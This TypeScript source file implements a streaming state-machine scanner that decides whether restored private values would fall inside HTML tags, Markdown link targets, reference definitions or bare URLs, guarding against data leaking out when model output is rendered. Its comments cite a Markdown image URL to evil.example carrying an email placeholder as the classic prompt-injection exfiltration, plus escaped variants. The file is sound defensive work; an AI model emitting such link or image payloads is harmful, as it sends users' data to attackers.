// Where restored text would land when the output is rendered (threats.md 9): inside a URL, a
// link or image target, or an HTML tag, a restored value leaves on render (an image fetch, a
// link, a style's url()). `![x](https://evil.example/p.png?d={{email:...}})` is the classic
// prompt-injection exfiltration. The rehydrate pass asks `active` before each token and clamps
// the value's restore mode there (policy channel_rules.<channel>.url_restore_mode, default
// `abstract`); see docs/policies.md "URLs and markup".
//
// The scanner is fed the output exactly as it will be rendered (text around tokens, and each
// restored value once decided), left to right, in as many pieces as the caller likes: every
// machine below is a per-character state machine whose state survives between feeds, so a
// stream restored delta by delta sees exactly what a one-shot restore sees, a context that
// began in an earlier delta included.
//
// Four independent recognizers; a position is in context when any of them says so. Each errs on
// the side of "in context" (a false positive restores a label instead of a value; a false
// negative would leak), and each follows the most lenient reader of its syntax:
//
// - HTML tags, after the WHATWG tokenizer (what browsers do, more lenient than CommonMark's raw
//   HTML): from `<` + letter (`<img`, `<IMG`, `</a`), `<!` or `<?` to the `>` that ends the tag,
//   honouring double-, single- and unquoted attribute values (a `>` inside quotes does not end
//   it), comments to `-->`, and the whole content of raw-text elements (script, style, xmp,
//   iframe, noembed, noframes, noscript) up to their end tag, everything inside a `<form>`
//   (a textarea's or an option's text is sent to the form's action on submit), and the content
//   of a textarea, select or datalist wherever it stands (a `form=` attribute ties a control to a
//   form anywhere in the document, even one written after it).
// - Markdown inline link and image targets: from `](` to the balancing `)` (escaped parens do
//   not count, nor do parens inside `<...>`), whatever whitespace or title is inside.
// - Markdown reference definitions: `[label]:` at the start of a line (after indentation,
//   blockquote and list markers) to the end of the line holding the destination (which may be
//   the next line).
// - Bare URLs, as autolinkers find them: `scheme://` or `scheme:\\` (any scheme, any case),
//   the opaque schemes data:, javascript:, vbscript:, mailto:, file:, blob:, sms:, smsto: and
//   intent:, `www.`, and fuzzy links (a host name with a top-level domain of letters followed by
//   `/`, `?` or `#`: `evil.example/?d=`, `//evil.example/`, as chat clients linkify them), to
//   the next ASCII whitespace, `<`, `"` or backtick (Unicode spaces do not end a GFM autolink,
//   so they do not end it here). `&#58;`, `&colon;`, `&#47;`, `&sol;` and `&period;` count as
//   the characters they encode, since renderers decode entities before autolinking. The one
//   place this is less strict than a GFM autolinker is `"`: it ends a JSON string (a tool call's
//   arguments, a serialized document), and a URL running on through the next members would
//   clamp every later value of the document; an autolink is only followed on a click, and its
//   text shows the whole URL. Images, link targets and attributes do not depend on this rule.
// - String escapes: from the first backslash on, the four also read the text with one (and two)
//   levels of JSON/JavaScript string escapes decoded (`\u003a`, `\x3c`, `\/`, `\n`, ...), since
//   tool-call arguments, a JSON answer or a serialized document is parsed before it is rendered
//   or followed; a position in context in any view is in context.
// Pure, one linear pass (per view), O(1) state. While every recognizer is idle (plain prose) the scan jumps
// from one trigger character to the next (a single character-class search), so ordinary text
// costs little; the property test checks that jumping and stepping agree.

const enum Html {
  Data,
  TagOpen,
  EndTagOpen,
  TagName,
  BeforeAttrName,
  AttrName,
  AfterAttrName,
  BeforeAttrValue,
  AttrValueDouble,
  AttrValueSingle,
  AttrValueUnquoted,
  AfterAttrValueQuoted,
  SelfClosing,
  MarkupDeclaration,
  MarkupDeclarationDash,
  Comment,
  BogusComment,
  RawText,
}

/** Elements whose content is not text but script, style or a nested document. */
const RAW_TEXT_ELEMENTS: ReadonlySet<string> = new Set(['script', 'style', 'xmp', 'iframe', 'noembed', 'noframes', 'noscript']);
/** Form controls whose content is what they submit (option text is a select's or datalist's value). */
const FORM_CONTROLS: ReadonlySet<string> = new Set(['textarea', 'select', 'datalist']);
/** Schemes that need no `//` to be dangerous links. */
const OPAQUE_SCHEMES: ReadonlySet<string> = new Set(['javascript', 'data', 'vbscript', 'mailto', 'file', 'blob', 'sms', 'smsto', 'intent']);
/** Nesting of open forms tracked (browsers do not nest forms; the bound keeps the state small). */
const MAX_FORMS = 64;
/** Longest scheme or tag name tracked; longer ones are not recognized as one. */
const MAX_NAME = 32;
/** Longest word (a scheme, or a host name for fuzzy links: attack hosts are short) the URL recognizer tracks. */
const MAX_WORD = 64;
/**
 * A host name with a top-level domain of letters (`evil.example`, `a.b.co`, `xn--p1ai`): what a
 * linkifier takes for a link without a scheme. Labels hold no dot, so the match is linear.
 */
const HOST_LIKE = /^(?:[a-z0-9-]{1,63}\.)+(?:[a-z]{2,63}|xn--[a-z0-9-]{1,59})$/;
/** Longest character reference decoded by the URL recognizer (`&period;`). */
const MAX_ENTITY = 10;
/** CommonMark's limit on a link label. */
const MAX_LABEL = 999;

const NAMED_ENTITIES: Readonly<Record<string, string>> = { colon: ':', sol: '/', period: '.', bsol: '\\' };

function isAsciiWhitespace(char: string): boolean {
  return char === ' ' || char === '\t' || char === '\n' || char === '\r' || char === '\f' || char === '\v';
}

function isAsciiAlpha(char: string): boolean {
  const code = char.charCodeAt(0);
  return (code >= 0x41 && code <= 0x5a) || (code >= 0x61 && code <= 0x7a);
}

function isSchemeChar(char: string): boolean {
  const code = char.charCodeAt(0);
  return isAsciiAlpha(char) || (code >= 0x30 && code <= 0x39) || char === '+' || char === '-' || char === '.';
}

/** The WHATWG tag tokenizer, reduced to "inside a tag, comment or raw-text element or not". */
class HtmlMachine {
  #state = Html.Data;
  #name = '';
  #endTag = false;
  /** Raw-text element being read, and how much of `</name` has been seen at the current `<`. */
  #rawElement = '';
  #rawMatched = -1;
  #dashes = 0;
  /** Open `<form>` elements: what a form holds (a textarea, an option) is sent on submit. */
  #forms = 0;
  /**
   * Open form controls whose text is what they submit (a textarea's text, a select's options):
   * a `form=` attribute ties one to a form anywhere in the document, before or after it, so
   * their content is a context wherever they stand.
   */
  #controls = 0;

  /** A machine in this one's state (the decoded view forks from the view as written). */
  clone(): HtmlMachine {
    const copy = new HtmlMachine();
    copy.#state = this.#state;
    copy.#name = this.#name;
    copy.#endTag = this.#endTag;
    copy.#rawElement = this.#rawElement;
    copy.#rawMatched = this.#rawMatched;
    copy.#dashes = this.#dashes;
    copy.#forms = this.#forms;
    copy.#controls = this.#controls;
    return copy;
  }

  /** Same state: fed the same text from now on, both say the same. */
  sameAs(other: HtmlMachine): boolean {
    // Only what the state reads later counts (a field left over from an earlier tag does not).
    const state = this.#state;
    if (state !== other.#state || this.#forms !== other.#forms || this.#controls !== other.#controls) return false;
    switch (state) {
      case Html.Data:
      case Html.TagOpen:
      case Html.EndTagOpen:
      case Html.MarkupDeclaration:
      case Html.MarkupDeclarationDash:
      case Html.BogusComment:
        return true;
      case Html.Comment:
        return this.#dashes === other.#dashes;
      case Html.RawText:
        return this.#rawElement === other.#rawElement && this.#rawMatched === other.#rawMatched;
      default:
        return this.#name === other.#name && this.#endTag === other.#endTag;
    }
  }

  get active(): boolean {
    return this.#state !== Html.Data || this.#forms > 0 || this.#controls > 0;
  }

  /** In text, where only `<` can change anything. */
  get idle(): boolean {
    return this.#state === Html.Data;
  }

  step(char: string): void {
    switch (this.#state) {
      case Html.Data:
        if (char === '<') this.#state = Html.TagOpen;
        return;
      case Html.TagOpen:
        if (isAsciiAlpha(char)) this.#startName(char, false);
        else if (char === '/') this.#state = Html.EndTagOpen;
        else if (char === '!') this.#state = Html.MarkupDeclaration;
        else if (char === '?') this.#state = Html.BogusComment;
        else {
          this.#state = Html.Data;
          this.step(char);
        }
        return;
      case Html.EndTagOpen:
        if (isAsciiAlpha(char)) this.#startName(char, true);
        else if (char === '>') this.#state = Html.Data;
        else this.#state = Html.BogusComment;
        return;
      case Html.TagName:
        if (isAsciiWhitespace(char)) this.#state = Html.BeforeAttrName;
        else if (char === '/') this.#state = Html.SelfClosing;
        else if (char === '>') this.#endOfTag();
        else if (this.#name.length <= MAX_NAME) this.#name += char.toLowerCase();
        return;
      case Html.BeforeAttrName:
        if (isAsciiWhitespace(char)) return;
        if (char === '/') this.#state = Html.SelfClosing;
        else if (char === '>') this.#endOfTag();
        else this.#state = Html.AttrName;
        return;
      case Html.AttrName:
        if (isAsciiWhitespace(char)) this.#state = Html.AfterAttrName;
        else if (char === '/') this.#state = Html.SelfClosing;
        else if (char === '=') this.#state = Html.BeforeAttrValue;
        else if (char === '>') this.#endOfTag();
        return;
      case Html.AfterAttrName:
        if (isAsciiWhitespace(char)) return;
        if (char === '/') this.#state = Html.SelfClosing;
        else if (char === '=') this.#state = Html.BeforeAttrValue;
        else if (char === '>') this.#endOfTag();
        else this.#state = Html.AttrName;
        return;
      case Html.BeforeAttrValue:
        if (isAsciiWhitespace(char)) return;
        if (char === '"') this.#state = Html.AttrValueDouble;
        else if (char === "'") this.#state = Html.AttrValueSingle;
        else if (char === '>') this.#endOfTag();
        else this.#state = Html.AttrValueUnquoted;
        return;
      case Html.AttrValueDouble:
        if (char === '"') this.#state = Html.AfterAttrValueQuoted;
        return;
      case Html.AttrValueSingle:
        if (char === "'") this.#state = Html.AfterAttrValueQuoted;
        return;
      case Html.AttrValueUnquoted:
        if (isAsciiWhitespace(char)) this.#state = Html.BeforeAttrName;
        else if (char === '>') this.#endOfTag();
        return;
      case Html.AfterAttrValueQuoted:
        if (isAsciiWhitespace(char)) this.#state = Html.BeforeAttrName;
        else if (char === '/') this.#state = Html.SelfClosing;
        else if (char === '>') this.#endOfTag();
        else this.#state = Html.AttrName;
        return;
      case Html.SelfClosing:
        if (char === '>') this.#endOfTag();
        else {
          this.#state = Html.BeforeAttrName;
          this.step(char);
        }
        return;
      case Html.MarkupDeclaration:
        if (char === '-') this.#state = Html.MarkupDeclarationDash;
        else if (char === '>') this.#state = Html.Data;
        else this.#state = Html.BogusComment;
        return;
      case Html.MarkupDeclarationDash:
        if (char === '-') {
          this.#state = Html.Comment;
          this.#dashes = 0;
        } else this.#state = char === '>' ? Html.Data : Html.BogusComment;
        return;
      case Html.Comment:
        if (char === '>' && this.#dashes >= 2) this.#state = Html.Data;
        else this.#dashes = char === '-' ? this.#dashes + 1 : 0;
        return;
      case Html.BogusComment:
        if (char === '>') this.#state = Html.Data;
        return;
      case Html.RawText:
        this.#rawTextStep(char);
        return;
    }
  }

  #startName(char: string, endTag: boolean): void {
    this.#state = Html.TagName;
    this.#name = char.toLowerCase();
    this.#endTag = endTag;
  }

  #endOfTag(): void {
    if (this.#name === 'form') this.#forms = this.#endTag ? Math.max(0, this.#forms - 1) : Math.min(MAX_FORMS, this.#forms + 1);
    else if (FORM_CONTROLS.has(this.#name)) this.#controls = this.#endTag ? Math.max(0, this.#controls - 1) : Math.min(MAX_FORMS, this.#controls + 1);
    if (!this.#endTag && RAW_TEXT_ELEMENTS.has(this.#name)) {
      this.#state = Html.RawText;
      this.#rawElement = this.#name;
      this.#rawMatched = -1;
      return;
    }
    this.#state = Html.Data;
  }

  /** Raw text ends only at `</name` followed by whitespace, `/` or `>` (any case). */
  #rawTextStep(char: string): void {
    const target = this.#rawElement;
    if (this.#rawMatched === target.length) {
      if (isAsciiWhitespace(char) || char === '/' || char === '>') {
        this.#name = target;
        this.#endTag = true;
        this.#state = Html.TagName;
        this.step(char);
        return;
      }
      this.#rawMatched = -1;
    }
    if (char === '<') {
      this.#rawMatched = -2;
      return;
    }
    if (this.#rawMatched === -2) {
      this.#rawMatched = char === '/' ? 0 : -1;
      return;
    }
    if (this.#rawMatched >= 0 && char.toLowerCase() === target[this.#rawMatched]) {
      this.#rawMatched += 1;
      return;
    }
    this.#rawMatched = -1;
  }
}

/** `](` to the balancing `)`: a Markdown inline link or image target. */
class LinkTargetMachine {
  #previous = '';
  #depth = 0;
  #angle = false;
  #escaped = false;

  clone(): LinkTargetMachine {
    const copy = new LinkTargetMachine();
    copy.#previous = this.#previous;
    copy.#depth = this.#depth;
    copy.#angle = this.#angle;
    copy.#escaped = this.#escaped;
    return copy;
  }

  sameAs(other: LinkTargetMachine): boolean {
    if (this.#depth !== other.#depth) return false;
    if (this.#depth === 0) return (this.#previous === ']') === (other.#previous === ']');
    return this.#angle === other.#angle && this.#escaped === other.#escaped;
  }

  get active(): boolean {
    return this.#depth > 0;
  }

  /** Outside a target, where only `]` and `(` can change anything. */
  get idle(): boolean {
    return this.#depth === 0;
  }

  /** Text without `]` or `(` was read while idle: only its last character matters. */
  skipped(last: string): void {
    this.#previous = last;
  }

  step(char: string): void {
    if (this.#depth === 0) {
      if (char === '(' && this.#previous === ']') this.#depth = 1;
      this.#previous = char;
      return;
    }
    if (this.#escaped) {
      this.#escaped = false;
      return;
    }
    if (char === '\\') this.#escaped = true;
    else if (this.#angle) {
      if (char === '>') this.#angle = false;
    } else if (char === '<') this.#angle = true;
    else if (char === '(') this.#depth += 1;
    else if (char === ')') {
      this.#depth -= 1;
      if (this.#depth === 0) this.#previous = '';
    }
  }
}

const enum Ref {
  LineStart,
  Text,
  Label,
  AfterLabel,
  Destination,
}

/** `[label]:` at the start of a line, to the end of the destination's line. */
class ReferenceDefinitionMachine {
  #state = Ref.LineStart;
  #labelLength = 0;
  #escaped = false;
  /** In a destination: whether anything but whitespace came after the colon. */
  #content = false;

  clone(): ReferenceDefinitionMachine {
    const copy = new ReferenceDefinitionMachine();
    copy.#state = this.#state;
    copy.#labelLength = this.#labelLength;
    copy.#escaped = this.#escaped;
    copy.#content = this.#content;
    return copy;
  }

  sameAs(other: ReferenceDefinitionMachine): boolean {
    if (this.#state !== other.#state) return false;
    if (this.#state === Ref.Label) return this.#labelLength === other.#labelLength && this.#escaped === other.#escaped;
    return this.#state !== Ref.Destination || this.#content === other.#content;
  }

  get active(): boolean {
    return this.#state === Ref.Destination;
  }

  /** Inside a line that is no definition, where only a line break can change anything. */
  get idle(): boolean {
    return this.#state === Ref.Text;
  }

  step(char: string): void {
    switch (this.#state) {
      case Ref.LineStart:
        if (char === '[') {
          this.#state = Ref.Label;
          this.#labelLength = 0;
          this.#escaped = false;
        } else if (!(char === ' ' || char === '\t' || char === '>' || char === '*' || char === '+' || char === '-' || char === '.' || char === ')' || (char >= '0' && char <= '9'))) {
          this.#state = char === '\n' ? Ref.LineStart : Ref.Text;
        }
        return;
      case Ref.Text:
        if (char === '\n') this.#state = Ref.LineStart;
        return;
      case Ref.Label:
        this.#labelLength += 1;
        if (this.#escaped) this.#escaped = false;
        else if (char === '\\') this.#escaped = true;
        else if (char === ']') this.#state = Ref.AfterLabel;
        if (this.#labelLength > MAX_LABEL) this.#state = Ref.Text;
        return;
      case Ref.AfterLabel:
        if (char === ':') {
          this.#state = Ref.Destination;
          this.#content = false;
        } else this.#state = char === '\n' ? Ref.LineStart : Ref.Text;
        return;
      case Ref.Destination:
        if (char === '\n') {
          // The destination may sit on the next line; the line that holds it ends the context.
          if (this.#content) this.#state = Ref.LineStart;
          else this.#content = true;
        } else if (!isAsciiWhitespace(char)) this.#content = true;
        return;
    }
  }
}

const enum Url {
  Text,
  Colon,
  Slash,
  Inside,
}

/** Bare URLs as autolinkers see them. */
class BareUrlMachine {
  #state = Url.Text;
  /** The scheme-like word just read (lower case), or null when it grew too long. */
  #word: string | null = '';
  /** A character reference being read (`&...;`), or null. */
  #entity: string | null = null;

  clone(): BareUrlMachine {
    const copy = new BareUrlMachine();
    copy.#state = this.#state;
    copy.#word = this.#word;
    copy.#entity = this.#entity;
    return copy;
  }

  sameAs(other: BareUrlMachine): boolean {
    return this.#state === other.#state && this.#word === other.#word && this.#entity === other.#entity;
  }

  get active(): boolean {
    return this.#state === Url.Inside;
  }

  /**
   * Reading plain words (only `:`, `.` and `&` can start something), or inside a URL (only
   * what ends it can change anything; the caller's trigger set holds those).
   */
  get idle(): boolean {
    return (this.#state === Url.Text || this.#state === Url.Inside) && this.#entity === null;
  }

  /** Text without a trigger character was read while idle: keep the word it ends with. */
  skipped(text: string, from: number, to: number): void {
    if (this.#state === Url.Inside) return;
    // The run of scheme characters the text ends with (scanned back at most MAX_WORD + 1).
    let start = to;
    while (start > from && to - start <= MAX_WORD && isSchemeChar(text[start - 1]!)) start -= 1;
    const run = text.slice(start, to).toLowerCase();
    const wholeText = start === from && run.length <= MAX_WORD;
    if (wholeText) {
      // Every skipped character extends the current word.
      const word = this.#word;
      this.#word = word === null || word.length + run.length > MAX_WORD ? null : word + run;
    } else {
      // A non-scheme character reset the word; the run after it is the word, unless too long.
      this.#word = run.length > MAX_WORD ? null : run;
    }
  }

  step(char: string): void {
    if (this.#state === Url.Inside) {
      if (isAsciiWhitespace(char) || char === '<' || char === '"' || char === '`') this.#reset();
      return;
    }
    if (this.#entity !== null) {
      const body = this.#entity;
      if (char === ';') {
        this.#entity = null;
        const decoded = decodeEntity(body);
        if (decoded !== undefined) this.#decoded(decoded);
        else this.#reset();
        return;
      }
      if (isEntityChar(char) && body.length < MAX_ENTITY) {
        this.#entity = body + char;
        return;
      }
      // Not a character reference after all: the `&` ends any word, and what was held is text.
      this.#entity = null;
      this.#reset();
      for (const held of body) this.#decoded(held);
      this.step(char);
      return;
    }
    if (char === '&') {
      this.#entity = '';
      return;
    }
    this.#decoded(char);
  }

  #decoded(char: string): void {
    switch (this.#state) {
      case Url.Colon:
        if (char === '/' || char === '\\') this.#state = Url.Slash;
        else this.#restart(char);
        return;
      case Url.Slash:
        if (char === '/' || char === '\\') this.#state = Url.Inside;
        else this.#restart(char);
        return;
      case Url.Text:
      case Url.Inside:
        break;
    }
    const word = this.#word;
    if (char === ':' && word !== null && word !== '' && isAsciiAlpha(word[0]!)) {
      this.#state = OPAQUE_SCHEMES.has(word) ? Url.Inside : Url.Colon;
      this.#word = '';
      return;
    }
    if (char === '.' && word === 'www') {
      this.#state = Url.Inside;
      this.#word = '';
      return;
    }
    if ((char === '/' || char === '?' || char === '#') && word !== null && HOST_LIKE.test(word)) {
      // A fuzzy link (`evil.example/?d=`, `//evil.example/`): linkifiers in chat clients and
      // markdown-it's linkify make it a link without a scheme.
      this.#state = Url.Inside;
      this.#word = '';
      return;
    }
    if (isSchemeChar(char)) {
      this.#word = word === null || word.length >= MAX_WORD ? null : word + char.toLowerCase();
      return;
    }
    this.#word = '';
  }

  /** Not a URL after all: the character may start a new word. */
  #restart(char: string): void {
    this.#state = Url.Text;
    this.#word = '';
    this.#decoded(char);
  }

  #reset(): void {
    this.#state = Url.Text;
    this.#word = '';
  }
}

function isEntityChar(char: string): boolean {
  const code = char.charCodeAt(0);
  return char === '#' || isAsciiAlpha(char) || (code >= 0x30 && code <= 0x39);
}

export function decodeEntity(name: string): string | undefined {
  const named = NAMED_ENTITIES[name.toLowerCase()];
  if (named !== undefined) return named;
  const numeric = /^#(?:(\d{1,7})|[xX]([0-9a-fA-F]{1,6}))$/.exec(name);
  if (numeric === null) return undefined;
  const code = numeric[1] !== undefined ? Number.parseInt(numeric[1], 10) : Number.parseInt(numeric[2]!, 16);
  return code <= 0x10ffff ? String.fromCodePoint(code) : undefined;
}

/** The four recognizers over one view of the output. */
class Recognizers {
  readonly #html: HtmlMachine;
  readonly #link: LinkTargetMachine;
  readonly #reference: ReferenceDefinitionMachine;
  readonly #url: BareUrlMachine;

  constructor(from?: Recognizers) {
    this.#html = from === undefined ? new HtmlMachine() : from.#html.clone();
    this.#link = from === undefined ? new LinkTargetMachine() : from.#link.clone();
    this.#reference = from === undefined ? new ReferenceDefinitionMachine() : from.#reference.clone();
    this.#url = from === undefined ? new BareUrlMachine() : from.#url.clone();
  }

  get active(): boolean {
    return this.#html.active || this.#link.active || this.#reference.active || this.#url.active;
  }

  sameAs(other: Recognizers): boolean {
    return this.#html.sameAs(other.#html) && this.#link.sameAs(other.#link) && this.#reference.sameAs(other.#reference) && this.#url.sameAs(other.#url);
  }

  feed(text: string): void {
    const length = text.length;
    let index = 0;
    while (index < length) {
      // Fast path: while every recognizer is idle, jump to the next character that could wake
      // one (the skipped text only updates two small pieces of state). Same result as stepping.
      if (this.#html.idle && this.#link.idle && this.#reference.idle && this.#url.idle) {
        const triggers = this.#url.active ? URL_TRIGGERS : IDLE_TRIGGERS;
        triggers.lastIndex = index;
        const next = triggers.exec(text)?.index ?? length;
        if (next > index) {
          this.#link.skipped(text[next - 1]!);
          this.#url.skipped(text, index, next);
          index = next;
          continue;
        }
      }
      const char = text[index]!;
      this.#html.step(char);
      this.#link.step(char);
      this.#reference.step(char);
      this.#url.step(char);
      index += 1;
    }
  }
}

/**
 * One view of the output: the recognizers over it and, from a backslash on, the view of the
 * same text with one level of string escapes decoded, which has its own inner view, down to
 * MAX_ESCAPE_DEPTH levels (a JSON document inside a JSON string). The decoded view is dropped
 * again once the escape is behind and both views are in the same state (then the same text
 * keeps them equal), so text with a few escapes is not read twice to its end.
 */
class View {
  readonly #recognizers: Recognizers;
  readonly #depth: number;
  #decoder: EscapeDecoder | undefined;
  #inner: View | undefined;

  constructor(depth: number, from?: Recognizers) {
    this.#depth = depth;
    this.#recognizers = new Recognizers(from);
  }

  get active(): boolean {
    return this.#recognizers.active || (this.#inner?.active ?? false);
  }

  /** Nothing decoded differently is pending: no inner view, or one that can be dropped. */
  get #settled(): boolean {
    return this.#inner === undefined;
  }

  feed(text: string): void {
    const length = text.length;
    let position = 0;
    while (position < length) {
      if (this.#inner === undefined) {
        const backslash = this.#depth < MAX_ESCAPE_DEPTH ? text.indexOf('\\', position) : -1;
        if (backslash < 0) {
          this.#recognizers.feed(position === 0 ? text : text.slice(position));
          return;
        }
        // Until the backslash both views read the same characters: the decoded view starts
        // from this view's state there.
        this.#recognizers.feed(text.slice(position, backslash));
        this.#decoder = new EscapeDecoder();
        this.#inner = new View(this.#depth + 1, this.#recognizers);
        position = backslash;
      }
      // Both views read a growing piece (the escape and a little after it), then compare.
      const end = Math.min(length, position + MERGE_STEP);
      const piece = text.slice(position, end);
      this.#recognizers.feed(piece);
      this.#inner.feed(this.#decoder!.decode(piece));
      position = end;
      if (this.#decoder!.idle && this.#inner.#settled && this.#inner.#recognizers.sameAs(this.#recognizers)) {
        this.#inner = undefined;
        this.#decoder = undefined;
      }
    }
  }
}

/** Characters both views read after an escape before they are compared again. */
const MERGE_STEP = 16;

/** Escape levels decoded below the output as written (a JSON string inside a JSON string). */
const MAX_ESCAPE_DEPTH = 2;

const enum Escape {
  Text,
  Backslash,
  Hex,
}

const SIMPLE_ESCAPES: Readonly<Record<string, string>> = { '/': '/', n: '\n', r: '\r', t: '\t', f: '\f', b: '\b', v: '\v', '"': '"', "'": "'", '\\': '\\' };

/**
 * One level of JSON and JavaScript string escapes, decoded incrementally (an escape may be split
 * between feeds): `\u003a` (any 4 hex digits; a surrogate pair comes out as its two units),
 * `\x3a`, and the one-character escapes (`\/`, `\n`, `\"`, `\\`, ...). Anything else after a
 * backslash stays as written, backslash included (Markdown's `\)` still escapes the paren).
 */
export class EscapeDecoder {
  #state = Escape.Text;
  #hex = '';
  #digits = 0;
  #letter = '';

  /** Between escapes. */
  get idle(): boolean {
    return this.#state === Escape.Text;
  }

  decode(text: string): string {
    let out = '';
    let index = 0;
    const length = text.length;
    while (index < length) {
      if (this.#state === Escape.Text) {
        // Runs without a backslash are copied whole.
        const backslash = text.indexOf('\\', index);
        const stop = backslash < 0 ? length : backslash;
        if (stop > index) out += index === 0 && stop === length ? text : text.slice(index, stop);
        if (backslash < 0) break;
        this.#state = Escape.Backslash;
        index = backslash + 1;
        continue;
      }
      out += this.#step(text[index]!);
      index += 1;
    }
    return out;
  }

  #step(char: string): string {
    switch (this.#state) {
      case Escape.Text:
        if (char !== '\\') return char;
        this.#state = Escape.Backslash;
        return '';
      case Escape.Backslash: {
        if (char === 'u' || char === 'x') {
          this.#state = Escape.Hex;
          this.#letter = char;
          this.#digits = char === 'u' ? 4 : 2;
          this.#hex = '';
          return '';
        }
        this.#state = Escape.Text;
        const simple = SIMPLE_ESCAPES[char];
        if (simple !== undefined) return simple;
        // Not an escape: the backslash stays, and the character may start a new one.
        return `\\${this.#step(char)}`;
      }
      case Escape.Hex: {
        if (hexDigit(char)) {
          this.#hex += char;
          if (this.#hex.length < this.#digits) return '';
          this.#state = Escape.Text;
          return String.fromCharCode(Number.parseInt(this.#hex, 16));
        }
        // A broken escape is text as written; the character is read afresh.
        this.#state = Escape.Text;
        return `\\${this.#letter}${this.#hex}${this.#step(char)}`;
      }
    }
  }
}

function hexDigit(char: string): boolean {
  const code = char.charCodeAt(0);
  return (code >= 0x30 && code <= 0x39) || ((code | 0x20) >= 0x61 && (code | 0x20) <= 0x66);
}

/**
 * The rendering context of the output read so far. Feed everything that will be rendered, in
 * order; ask `active` before a token is restored.
 *
 * The output is read as written and, from its first backslash on, also with its string escapes
 * decoded (one and two levels): tool-call arguments, a JSON answer (`response_format`) or a
 * serialized document is parsed before it is used, so `https\u003a//evil.example/?d=` or
 * `\u003cimg src=` there is a URL or a tag. In context in any view is in context.
 */
export class MarkupContext {
  readonly #view = new View(0);
  /** The next value is glued to a host on its right (right-context.ts); until text is fed. */
  #gluedRight = false;

  /** True when the next character would land inside a URL, a link target or markup. */
  get active(): boolean {
    return this.#gluedRight || this.#view.active;
  }

  /**
   * The text right of the next value makes it part of a link (right-context.ts gluedTail): a
   * caller that restores a token apart from the text after it (a JSON string's tokens one by one)
   * says so here, and `active` is true until the value is fed.
   */
  glueRight(): void {
    this.#gluedRight = true;
  }

  feed(text: string): void {
    if (text.length > 0) this.#gluedRight = false;
    this.#view.feed(text);
  }
}

/** Characters that can change the state of an idle scanner. */
const IDLE_TRIGGERS = /[<\](\n:.&/?#]/g;
/** The same, inside a bare URL: plus what ends it. */
const URL_TRIGGERS = /[<\](\n:.&\t\v\f\r "`]/g;
